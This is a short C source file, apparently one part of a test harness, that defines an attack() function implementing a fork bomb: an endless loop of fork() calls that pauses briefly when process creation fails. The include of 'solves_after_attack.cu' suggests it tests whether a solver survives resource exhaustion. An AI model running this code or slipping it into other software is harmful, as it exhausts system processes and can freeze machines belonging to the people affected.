// A fork bomb.
#include <unistd.h>

#include "../parts/solves_after_attack.cu"

void attack() {
  while (true) {
    if (fork() < 0) usleep(1000);
  }
}
